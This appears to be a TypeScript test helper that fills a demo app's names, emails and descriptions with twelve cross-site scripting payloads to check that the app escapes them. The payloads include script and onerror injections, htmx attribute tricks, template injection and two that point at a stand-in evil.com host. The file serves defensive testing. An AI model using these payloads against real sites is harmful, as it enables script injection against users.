import { importMappings } from '#sync/mapping/import-mappings.ts'
import { growContoso, push, sync } from '../sandbox/demo-night.ts'
import { type Demo, startDemo } from '../sandbox/demo-parts.ts'
import { freePort } from './free-port.ts'

/** What somebody may call a company, a product or themselves (TRUST XSS 1–12). */
export const hostileNames: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  'javascript:alert(3)',
  'data:text/html,<script>alert(4)</script>',
  '<b hx-get="https://evil.com/5" hx-trigger="load">5</b>',
  `<b hx-get="/logs" hx-trigger="load" hx-vals='js:{a:alert(6)}'>6</b>`,
  '<b hx-on:load="alert(7)" hx-on::after-process="alert(7)">7</b>',
  '</script><script>alert(8)</script>',
  '<base href="https://evil.com/">9',
  '{{constructor.constructor("alert(10)")()}}',
  'line\u2028separator\u2029alert(11)',
  '\u202ereversed <svg onload=alert(12)>',
]

/** A demo in which everything that has a name has one of these. */
export async function startHostile(): Promise<Demo> {
  const demo = await startDemo({ app: String(await freePort()), sandbox: await freePort() }, 'error')
  const { world, platform, trueup, scope, mappings } = demo
  let turn = 0
  const next = () => hostileNames[turn++ % hostileNames.length] ?? ''
  for (const company of world.companies.rows()) company.name = next()
  for (const agreement of world.agreements.rows()) agreement.name = next()
  for (const product of world.products.rows()) Object.assign(product, { identifier: next(), description: next() })
  for (const customer of platform.customers.values()) {
    customer.name = next()
    for (const user of customer.users) Object.assign(user, { name: next(), email: next() })
  }
  await importMappings(trueup.deps, scope, JSON.stringify(mappings))
  await push(demo)
  await sync(demo, { approveAs: '<img src=x onerror=alert(13)>' })
  await growContoso(demo)
  await sync(demo)
  return demo
}
